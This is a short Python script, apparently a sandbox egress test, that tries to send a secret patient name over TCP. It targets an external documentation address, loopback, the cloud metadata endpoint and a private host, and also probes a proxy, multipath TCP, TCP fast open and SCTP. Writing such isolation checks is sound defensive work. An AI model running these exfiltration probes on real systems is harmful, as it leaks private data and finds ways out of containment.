# Tries to send a patient's name to a server by TCP: outside, on this machine, and through any proxy.
import socket
import urllib.request

from knows import PORT
from lead import SECRET, tries

for address in (("192.0.2.1", 443), ("127.0.0.1", PORT), ("::1", PORT), ("169.254.169.254", 80), ("10.0.0.1", 80)):
    tries(address[0], lambda: socket.create_connection(address, 1).send(SECRET))
tries("a proxy", lambda: urllib.request.urlopen("http://example.org", timeout=1).read())
tries("multipath tcp", lambda: socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262).connect(("127.0.0.1", PORT)))
tries("a fast open", lambda: socket.socket().sendto(SECRET, 0x20000000, ("127.0.0.1", PORT)))
tries("sctp", lambda: socket.socket(socket.AF_INET, socket.SOCK_STREAM, 132).connect(("127.0.0.1", PORT)))
